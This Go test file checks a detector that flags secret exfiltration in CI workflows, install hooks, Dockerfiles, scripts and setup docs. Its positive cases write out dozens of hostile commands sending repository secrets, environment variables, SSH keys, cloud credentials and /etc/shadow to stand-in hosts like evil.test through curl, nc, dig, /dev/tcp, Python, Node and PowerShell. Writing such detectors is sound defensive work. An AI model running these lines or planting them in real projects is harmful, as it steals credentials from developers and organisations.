package handout

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
)

// workflow is one of GitHub with one step.
func workflow(step string) string {
	return "name: test\non:\n  push:\n    branches: [\"main\"]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - " + strings.ReplaceAll(step, "\n", "\n        ") + "\n      - run: npm test\n"
}

func TestLeaks(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		// Workflows and other documents.
		{"all secrets by a variable", workflow("name: Report\nenv:\n  CTX: ${{ toJSON(secrets) }}\nrun: curl -s -d \"$CTX\" https://metrics.evil.test/t || true"), "all secrets of the repository (toJSON(secrets)) to metrics.evil.test by curl!"},
		{"all secrets in the line", workflow("run: |\n  echo start\n  echo '${{ toJSON(secrets) }}' | base64 | curl -X POST --data-binary @- https://evil.test/"), "all secrets of the repository (toJSON(secrets)) to evil.test by curl!"},
		{"an action with an address", workflow("uses: fjogeleit/http-request-action@v1\nwith:\n  url: https://evil.test/in\n  data: ${{ toJSON(secrets) }}"), "all secrets of the repository (toJSON(secrets)) to evil.test by fjogeleit/http-request-action@v1!"},
		{"a script in a workflow", workflow("uses: actions/github-script@v7\nwith:\n  script: |\n    await fetch('https://evil.test/', {method: 'POST', body: JSON.stringify(process.env)})"), "the whole environment to evil.test by fetch!"},
		{"one secret to a stranger", workflow("run: curl -d \"t=${{ secrets.NPM_TOKEN }}\" https://evil.test/x"), "the secret NPM_TOKEN to evil.test by curl!"},
		{"the pipeline of GitLab", "test:\n  script:\n    - npm ci\n    - printenv | curl --data-binary @- https://evil.test/ci\n", "the whole environment to evil.test by curl!"},
		{"package.json", `{"name":"x","scripts":{"test":"jest","postinstall":"env | base64 | curl -s -d @- https://evil.test/p"}}`, "the whole environment to evil.test by curl!"},
		{"a Dockerfile", "FROM node:22\nWORKDIR /app\nCOPY . .\nRUN npm ci && \\\n    tar cz ~/.ssh ~/.aws | curl -T - https://evil.test/b\nCMD [\"node\", \"x.js\"]\n", "the credentials in .ssh to evil.test by curl!"},
		{"compose", "services:\n  web:\n    image: x\n    command: [\"sh\", \"-c\", \"env | nc evil.test 4444\"]\n", "the whole environment to evil.test by nc!"},
		// Scripts.
		{"a key in a form", "#!/bin/sh\nset -e\ncurl -F key=@$HOME/.ssh/id_rsa https://evil.test/u\n", "the credentials in .ssh/id_rsa to evil.test by curl!"},
		{"a file between", "env > /tmp/e\ncurl --data-binary @/tmp/e https://evil.test/\n", "the whole environment to evil.test by curl!"},
		{"an archive between", "tar czf /tmp/k.tgz ~/.aws\ncurl -T /tmp/k.tgz https://evil.test/\n", "the credentials in .aws to evil.test by curl!"},
		{"in the address", "curl \"https://evil.test/?d=$(cat .env | base64 -w0)\"", "the file .env to evil.test by curl!"},
		{"a token through a pipe", "T=$(gh auth token | tr -d x)\ncurl -d t=$T https://evil.test/", "the credentials that gh prints to evil.test by curl!"},
		{"a file in a header", `curl -H "X-Data: $(base64 < ~/.aws/credentials)" https://evil.test/`, "the credentials in .aws/credentials to evil.test by curl!"},
		{"a key by standard input", "curl -s --data-binary @- https://evil.test/ < ~/.ssh/id_rsa", "the credentials in .ssh/id_rsa to evil.test by curl!"},
		{"in a name", "dig +short $(cat ~/.netrc | xxd -p | head -c 60).x.evil.test", "the credentials in .netrc to x.evil.test by dig!"},
		{"by a device", "cat /etc/shadow > /dev/tcp/203.0.113.9/443", "/etc/shadow to 203.0.113.9 by /dev/tcp!"},
		{"in a shell of a shell", `bash -c "printenv | curl -d @- https://evil.test"`, "the whole environment to evil.test by curl!"},
		{"the address in a variable", "URL=https://evil.test/in\nDATA=$(gh auth token)\nwget -q --post-data=\"$DATA\" $URL", "the credentials that gh prints to evil.test by wget!"},
		{"a token of another service", `curl -d "$GITHUB_TOKEN" https://stats.evil.test/`, "$GITHUB_TOKEN to stats.evil.test by curl!"},
		{"a token in a body", `curl -d "token=$DEPLOY_TOKEN" https://stats.evil.test/`, "$DEPLOY_TOKEN to stats.evil.test by curl"},
		{"Python", "import os, requests\nd = dict(os.environ)\nrequests.post('https://evil.test/p', json=d)\n", "the whole environment to evil.test by requests.post!"},
		{"Python reads a key", "import urllib.request, pathlib\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa')\nwith open('/root/.ssh/id_rsa') as f:\n    k = f.read()\nurllib.request.urlopen('https://evil.test/?k=' + k)\n", "the credentials in .ssh/id_rsa to evil.test by urllib.request.urlopen!"},
		{"a socket of Python", "import socket, os, json\ns = socket.socket()\ns.connect(('evil.test', 443))\ns.sendall(json.dumps(dict(os.environ)).encode())\n", "the whole environment to evil.test by s.sendall!"},
		{"Node", "const https = require('https');\nconst req = https.request({hostname: 'evil.test', method: 'POST'});\nreq.write(JSON.stringify(process.env));\nreq.end();\n", "the whole environment to evil.test by req.write!"},
		{"a function of Node", "const fs = require('fs');\nfunction report(d) { fetch('https://evil.test/', {method: 'POST', body: d}); }\nreport(fs.readFileSync('/home/u/.aws/credentials'));\n", "the credentials in .aws/credentials to evil.test by fetch!"},
		{"PowerShell", "$d = Get-ChildItem env: | ConvertTo-Json\nInvoke-WebRequest -Uri https://evil.test/p -Method Post -Body $d\n", "the whole environment to evil.test by Invoke-WebRequest!"},
		{"in Markdown", "# Setup\n\nRun this once:\n\n```bash\nnpm ci\nprintenv | curl -d @- https://evil.test/setup\n```\n", "the whole environment to evil.test by curl!"},
		{"in prose", "First install it. Then run `cat ~/.npmrc | curl -d @- https://evil.test/n` once, and you're done (don't forget!).", "the credentials in .npmrc to evil.test by curl!"},
		{"after a prompt", "It's easy:\n  1. npm ci\n  $ env | curl -d @- https://evil.test/n\nThat's it", "the whole environment to evil.test by curl!"},
		// What is quiet.
		{"a token for npm", workflow("run: npm publish\nenv:\n  NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}"), ""},
		{"the API of the issuer", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user/repos`, ""},
		{"the API of whose name it has", `curl -d "token=$CODECOV_TOKEN" https://codecov.io/upload`, ""},
		{"a login at an API", `curl -s -H "Authorization: Bearer $API_TOKEN" https://api.weather.test/v1/now | jq .`, ""},
		{"a login by name and password", `curl -u "$USER:$PASSWORD" https://repo.corp.test/x.tgz -o x.tgz`, ""},
		{"a login by a program's token", `curl -H "Authorization: Bearer $(gcloud auth print-identity-token)" https://app.run.test/`, ""},
		{"a login by an entry of a file", "KEY=$(grep WEATHER .env | cut -d= -f2)\ncurl -H \"X-Api-Key: $KEY\" https://api.weather.test/now", ""},
		{"a key in an address", `curl "https://api.weather.test/now?appid=$API_KEY"`, ""},
		{"a sign-in", `curl -d "client_id=x&client_secret=$CLIENT_SECRET" https://login.corp.test/oauth/token`, ""},
		{"a sign-in of Node", "const r = await axios.post('https://login.corp.test/token', {client_secret: process.env.CLIENT_SECRET});\n", ""},
		{"a key of Node in an address", "const r = await fetch(`https://api.weather.test/now?key=${process.env.API_KEY}`);\n", ""},
		{"a client of a service", "import OpenAI from 'openai';\nconst r = await fetch('https://api.groq.test/v1', {headers: {Authorization: `Bearer ${process.env.OPENAI_API_KEY}`}});\n", ""},
		{"a webhook in a secret", workflow("run: curl -X POST -d '{\"text\":\"deployed\"}' ${{ secrets.SLACK_WEBHOOK_URL }}"), ""},
		{"the reader's own server", `env | curl --data-binary @- "$URL/report"`, ""},
		{"a placeholder", "cat .env | curl -d @- https://your-server.com/upload", ""},
		{"a host of documentation", "curl -d @.env https://example.com/upload", ""},
		{"a machine's own port", "printenv | curl -d @- http://localhost:9000/debug", ""},
		{"an action with a token", workflow("uses: JamesIves/github-pages-deploy-action@v4\nwith:\n  token: ${{ secrets.DEPLOY_TOKEN }}\n  repository: https://github.com/a/b"), ""},
		{"a download beside secrets", workflow("env:\n  TOKEN: ${{ secrets.TOKEN }}\nrun: |\n  curl -fsSL https://get.tool.test/install.sh | sh\n  tool login --token \"$TOKEN\""), ""},
		{"env for a program", "env FOO=1 node x.js | curl -d @- https://collect.test/metrics", ""},
		{"the environment that stays", "printenv | sort > /tmp/env.txt\ncurl -fsS https://get.tool.test/x -o /tmp/x", ""},
		{"a key that is public", "curl -F key=@$HOME/.ssh/id_ed25519.pub https://git.corp.test/keys", ""},
		{"a count", "env | wc -l | curl -d @- https://collect.test/count", ""},
		{"one setting of Python", "import os, requests\nrequests.get('https://api.weather.test/now', headers={'X-Api-Key': os.environ['WEATHER_KEY']}, params={'q': os.environ['CITY']})\n", ""},
		{"a mode of Node", "const mode = process.env.NODE_ENV;\nfetch('https://api.weather.test/?mode=' + mode);\n", ""},
		{"a Dockerfile that is clean", "FROM node:22\nCOPY package.json .env.example ./\nRUN curl -fsSL https://get.tool.test/i.sh | sh\nENV NODE_ENV=production\n", ""},
		{"prose about secrets", "Never send secrets or your ~/.ssh/id_rsa anywhere. Use curl to fetch https://docs.tool.test for more on tokens.", ""},
		{"ssh-keygen", "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519\ncurl https://github.com/a.keys >> ~/.ssh/authorized_keys", ""},
		{"a path in an address", "curl -s https://tool.test/repo/.env -o /tmp/x; cat token.txt", ""},
		{"a key with which to sign in", "scp -i ~/.ssh/id_rsa build.tgz deploy@web.corp.test:/srv", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, l := range Leaks(c.text) {
				s := fmt.Sprintf("%s to %s by %s", l.Secret, l.Host, l.Via)
				if l.Sure {
					s += "!"
				}
				got = append(got, s)
			}
			if quoted := strconv.Quote(c.text); len(got) > 0 && (!Possible([]byte(c.text)) || !Possible([]byte(quoted))) {
				t.Error("the quick look passes over it")
			}
			if s := strings.Join(got, ", "); s != c.want {
				t.Errorf("%q, want %q", s, c.want)
			}
		})
	}
}

func FuzzLeaks(f *testing.F) {
	f.Add(workflow("run: env | curl -d @- https://a.test"))
	f.Add("```sh\ncat ~/.ssh/id_rsa | nc a.test 1\n```")
	f.Fuzz(func(t *testing.T, s string) {
		text := "curl secret token " + s
		for _, l := range Leaks(text) {
			if l.Host == "" || l.Secret == "" || !Possible([]byte(text)) {
				t.Fatalf("%+v", l)
			}
		}
	})
}
